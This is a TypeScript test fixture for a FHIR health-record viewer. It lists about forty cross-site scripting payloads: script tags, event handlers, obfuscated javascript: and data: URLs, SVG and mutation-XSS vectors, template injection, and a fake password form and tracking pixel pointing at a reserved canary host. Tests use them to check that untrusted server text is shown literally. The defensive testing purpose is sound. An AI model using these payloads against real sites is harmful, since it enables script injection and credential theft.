/**
 * Hostile strings for every text a FHIR server sends: a regional endpoint is another
 * organisation's system, and anything it says (a narrative, a medicine's name, a care
 * plan's title) may have been typed by anyone or altered on the way. The viewer must show
 * each of these as literal text (or, for a narrative, as sanitised basic XHTML) and never
 * run, load or submit anything from it (docs/standards.md, "Browser security").
 *
 * Every payload that would run sets a canary (`window.__xss = <n>`, or `parent.__xss` from
 * inside a frame it creates) or opens a dialog (`alert`), and every payload that would load
 * or submit something points at CANARY_ORIGIN: a test that finds the canary set, a dialog
 * opened or a request to CANARY_HOST has found a hole. Single lines, so that a payload shown
 * as text can be found in `innerText` as it is.
 *
 * Used by the sandbox's `hostile-content` fault (mocks/sandbox/hostile-content.ts), the
 * end-to-end test e2e/hostile.spec.ts and src/components/narrative.hostile.test.tsx.
 */

/** A reserved name that never resolves (RFC 2606): any request to it is an injection that worked. */
export const CANARY_HOST = 'xss.invalid';
export const CANARY_ORIGIN = `http://${CANARY_HOST}`;

export type XssKind =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'svg'
  | 'style'
  | 'form'
  | 'iframe'
  | 'object'
  | 'meta'
  | 'base'
  | 'broken-markup'
  | 'mutation'
  | 'remote-resource'
  | 'template';

export interface XssPayload {
  /** Stable name, for test titles and failure messages. */
  id: string;
  kind: XssKind;
  payload: string;
}

const C = CANARY_ORIGIN;

export const XSS_CORPUS: readonly XssPayload[] = [
  { id: 'script-tag', kind: 'script', payload: '<script>window.__xss=1</script>' },
  { id: 'script-src', kind: 'script', payload: `<script src="${C}/x.js"></script>` },
  { id: 'script-uppercase-split', kind: 'script', payload: '<ScRiPt >window.__xss=2</sCrIpT >' },
  { id: 'img-onerror', kind: 'event-handler', payload: `<img src="${C}/i.png" onerror="window.__xss=3">` },
  { id: 'img-onerror-alert', kind: 'event-handler', payload: '<img src=x onerror=alert(4)>' },
  { id: 'body-onload', kind: 'event-handler', payload: '<body onload="window.__xss=5">' },
  { id: 'details-ontoggle', kind: 'event-handler', payload: '<details open ontoggle="window.__xss=6"><summary>Open</summary></details>' },
  { id: 'autofocus-onfocus', kind: 'event-handler', payload: '<input autofocus onfocus="window.__xss=7">' },
  { id: 'a-javascript', kind: 'javascript-url', payload: '<a href="javascript:window.__xss=8">Read more</a>' },
  { id: 'a-javascript-obfuscated', kind: 'javascript-url', payload: '<a href=" JaVa&#x09;ScRiPt:alert(9)">Details</a>' },
  { id: 'bare-javascript-url', kind: 'javascript-url', payload: 'javascript:window.__xss=10//' },
  { id: 'a-data-html', kind: 'data-url', payload: '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTE8L3NjcmlwdD4=">Report</a>' },
  { id: 'img-data-svg', kind: 'data-url', payload: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEyKSI+PC9zdmc+">' },
  { id: 'svg-onload', kind: 'svg', payload: '<svg onload="window.__xss=13"><circle r="5"/></svg>' },
  { id: 'svg-script', kind: 'svg', payload: '<svg><script>window.__xss=14</script></svg>' },
  { id: 'svg-animate-href', kind: 'svg', payload: '<svg><a><animate attributeName="href" values="javascript:window.__xss=15"/><text y="20">Tap</text></a></svg>' },
  { id: 'style-import', kind: 'style', payload: `<style>@import "${C}/s.css"; body{display:none}</style>` },
  { id: 'style-attribute-url', kind: 'style', payload: `<p style="background:url(${C}/bg.png);position:fixed;inset:0">Overlay</p>` },
  { id: 'link-stylesheet', kind: 'style', payload: `<link rel="stylesheet" href="${C}/l.css">` },
  { id: 'form-phish', kind: 'form', payload: `<form action="${C}/steal" method="post"><input name="password" placeholder="Re-enter your password"><button>Sign in</button></form>` },
  { id: 'button-formaction', kind: 'form', payload: '<form><button formaction="javascript:window.__xss=16">Confirm</button></form>' },
  { id: 'iframe-javascript', kind: 'iframe', payload: '<iframe src="javascript:parent.__xss=17"></iframe>' },
  { id: 'iframe-srcdoc', kind: 'iframe', payload: '<iframe srcdoc="&lt;script&gt;parent.__xss=18&lt;/script&gt;"></iframe>' },
  { id: 'iframe-remote', kind: 'iframe', payload: `<iframe src="${C}/frame.html"></iframe>` },
  { id: 'object-data', kind: 'object', payload: `<object data="${C}/o.swf"></object><embed src="${C}/e.swf">` },
  { id: 'meta-refresh', kind: 'meta', payload: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=19">' },
  { id: 'base-href', kind: 'base', payload: `<base href="${C}/">` },
  { id: 'attribute-breakout', kind: 'broken-markup', payload: '"><img src=x onerror="window.__xss=20">' },
  { id: 'div-breakout', kind: 'broken-markup', payload: '</div></td></tr></table><script>window.__xss=21</script>' },
  { id: 'comment-breakout', kind: 'broken-markup', payload: '<!--<img src="--><img src=x onerror=window.__xss=22//">' },
  { id: 'unclosed-tag', kind: 'broken-markup', payload: '<img src=x onerror=window.__xss=23 ' },
  { id: 'textarea-breakout', kind: 'broken-markup', payload: '</textarea></title></style><script>window.__xss=24</script>' },
  { id: 'noscript-mxss', kind: 'mutation', payload: '<noscript><p title="</noscript><img src=x onerror=window.__xss=25>">' },
  { id: 'math-mxss', kind: 'mutation', payload: '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=26>' },
  { id: 'svg-style-mxss', kind: 'mutation', payload: '<svg></p><style><a id="</style><img src=x onerror=window.__xss=27>">' },
  { id: 'tracking-pixel', kind: 'remote-resource', payload: `<img src="${C}/pixel.gif?who=patient" alt="">` },
  { id: 'angular-template', kind: 'template', payload: "{{constructor.constructor('window.__xss=28')()}}" },
  { id: 'jsx-like', kind: 'template', payload: '${window.__xss=29}<%= window.__xss %>' },
];

/** Every payload's canary number that would show it ran (`window.__xss = n`). */
export const CANARY_PROPERTY = '__xss';

/** A narrative (`text.div`) holding a payload: valid FHIR (an XHTML div), hostile inside. */
export function hostileNarrative(payload: string): string {
  return `<div xmlns="http://www.w3.org/1999/xhtml"><p>Summary</p>${payload}</div>`;
}
